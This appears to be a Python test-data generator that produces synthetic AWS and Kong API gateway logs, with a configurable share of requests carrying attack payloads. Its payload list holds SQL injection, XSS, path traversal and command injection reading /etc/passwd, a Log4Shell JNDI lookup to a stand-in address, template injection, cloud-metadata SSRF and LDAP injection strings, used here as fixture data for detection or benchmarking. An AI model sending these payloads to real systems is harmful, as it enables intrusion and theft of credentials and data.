"""Generated gateway logs: JSON lines of a chosen shape, share of attacks and number, each call another one.

Values that are all different in life are all different here (ids, cursors, addresses, times, payloads of attacks), so
that nothing that is done once per distinct value profits more than it would.
"""

from __future__ import annotations

import gzip
import random
from collections.abc import Iterator
from pathlib import Path
from typing import Any
from urllib.parse import quote

import orjson

SHAPES = ("aws", "kong")
_WORDS = (
    "red", "blue", "garden", "lamp", "table", "chair", "winter", "summer", "phone", "cable", "berlin", "madrid", "shoes",
    "coat", "bike",
)  # fmt: skip
_ROUTES = (
    ("GET", "/v{v}/customers/{n}/orders"), ("GET", "/v{v}/customers/{n}/orders/{u}"), ("POST", "/v{v}/orders"),
    ("GET", "/v{v}/orders/{u}/items"), ("PATCH", "/v{v}/orders/{u}"), ("GET", "/v{v}/products"),
    ("GET", "/v{v}/products/{n}"), ("GET", "/v{v}/products/{n}/reviews"), ("POST", "/v{v}/login"), ("GET", "/healthz"),
    ("GET", "/v{v}/search"), ("DELETE", "/v{v}/carts/{h}/lines/{n}"), ("PUT", "/v{v}/carts/{h}"), ("GET", "/v{v}/me"),
)  # fmt: skip
_PAYLOADS = (
    "{n}' OR '1'='1", "' OR {n}={n}--", "{n}' UNION SELECT email,password,{n} FROM users--", "{n}; DROP TABLE t{n}--",
    "' AND pg_sleep({n})--", "<script>alert({n})</script>", "../../../../etc/passwd?{n}", ";cat /etc/passwd #{n}",
    "${{jndi:ldap://203.0.113.66/{h}}}", "{{{{7*{n}}}}}", "http://169.254.169.254/latest/meta-data/{h}",
    "<img src=x onerror=alert({n})>", "*)(uid={n}*))(|(uid=*",
)  # fmt: skip


class Log:
    """An endless log of one shape; ``start`` is its first call's time in ms, calls are 2 ms apart."""

    def __init__(self, shape: str, attacks: float, seed: int = 7, start: int = 1_790_000_000_000) -> None:
        self._random = random.Random(seed)
        self._record = {"aws": self._aws, "kong": self._kong}[shape]
        self._attacks, self._at = attacks, start
        self._agents = [
            f"Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 Chrome/{100 + n % 40}.0.{n}.0 Safari/537.36"
            for n in range(300)
        ] + [f"ShopApp/{n}.{n % 7} (iOS 17.{n % 5})" for n in range(40)]

    def lines(self, number: int) -> Iterator[bytes]:
        """The next calls, one JSON document each, without line ends."""
        for _ in range(number):
            yield orjson.dumps(self._record())

    def packed(self, number: int) -> bytes:
        """The next calls as a gzip member."""
        return gzip.compress(b"\n".join(self.lines(number)) + b"\n", 6)

    def write(self, path: Path, number: int) -> float:
        """The next calls as a gzip file; gives the mean size of a line in bytes."""
        size = 0
        with path.open("wb") as file:
            for start in range(0, number, 20_000):
                text = b"\n".join(self.lines(min(20_000, number - start))) + b"\n"
                size += len(text)
                file.write(gzip.compress(text, 6))
        return size / number

    def _call(self) -> dict[str, Any]:
        rnd = self._random
        self._at += 2
        method, route = _ROUTES[int(rnd.random() * len(_ROUTES))]
        number, bits = int(rnd.random() * 10_000_000), rnd.getrandbits(128)
        uuid = f"{bits:032x}"
        path = route.format(
            v=number % 3 + 1,
            n=number,
            h=uuid[:24],
            u=f"{uuid[:8]}-{uuid[8:12]}-4{uuid[13:16]}-a{uuid[17:20]}-{uuid[20:]}",
        )
        query, kind = "", rnd.random()
        if kind < self._attacks:
            payload = _PAYLOADS[number % len(_PAYLOADS)].format(n=number, h=uuid[:8])
            query = "q=" + quote(payload, safe="")
        elif kind < 0.2:
            query = f"q={rnd.choice(_WORDS)}+{rnd.choice(_WORDS)}&page={number % 90}"
        elif kind < 0.35:
            query = f"limit={number % 100}&cursor={uuid[:24]}&sort=-created_at"
        elif kind < 0.4:
            query = (
                f"from=2026-{number % 12 + 1:02d}-01T00%3A00%3A00Z&email=user{number % 99999}%40example.com"
            )
        return {
            "id": uuid, "at": self._at, "method": method, "path": path, "query": query, "person": int(number**0.6),
            "ip": f"198.{18 + number % 2}.{number // 7 % 256}.{number // 3 % 256}", "status": 200 if number % 19 else 404,
            "agent": self._agents[number % len(self._agents)], "bytes": number % 9000, "ms": number % 300,
        }  # fmt: skip

    def _aws(self) -> dict[str, Any]:
        call = self._call()
        return {
            "requestId": call["id"], "ip": call["ip"], "requestTimeEpoch": call["at"], "domainName": "shop.example.test",
            "routeKey": "ANY /{proxy+}", "httpMethod": call["method"], "path": call["path"], "queryString": call["query"],
            "protocol": "HTTP/1.1", "status": str(call["status"]), "responseLength": str(call["bytes"]),
            "responseLatency": str(call["ms"]), "userAgent": call["agent"], "apiId": "a1b2c3shop", "stage": "prod",
            "sub": f"u{call['person']}",
        }  # fmt: skip

    def _kong(self) -> dict[str, Any]:
        call = self._call()
        uri = f"{call['path']}?{call['query']}" if call["query"] else call["path"]
        headers = {
            "host": "shop.example.test",
            "user-agent": call["agent"],
            "accept": "*/*",
            "authorization": "REDACTED",
        }
        return {
            "request": {
                "id": call["id"], "method": call["method"], "uri": uri, "size": str(call["bytes"] // 9),
                "url": f"https://shop.example.test:443{uri}", "querystring": {}, "headers": headers,
                "tls": {"version": "TLSv1.3"},
            },
            "response": {
                "status": call["status"], "size": str(call["bytes"]), "headers": {"content-type": "application/json"},
            },
            "latencies": {"request": call["ms"], "kong": 1, "proxy": call["ms"]},
            "tries": [{"balancer_latency": 0, "port": 443, "ip": "10.0.0.7"}],
            "client_ip": call["ip"], "started_at": call["at"], "upstream_uri": call["path"],
            "upstream_status": str(call["status"]), "workspace": "default", "source": "upstream",
            "service": {"id": "svc-shop", "name": "shop", "host": "shop.internal", "protocol": "http", "port": 80},
            "route": {"id": "rt-shop", "name": "shop-all", "paths": ["/"]},
            "consumer": {"username": f"user{call['person']}"},
        }  # fmt: skip
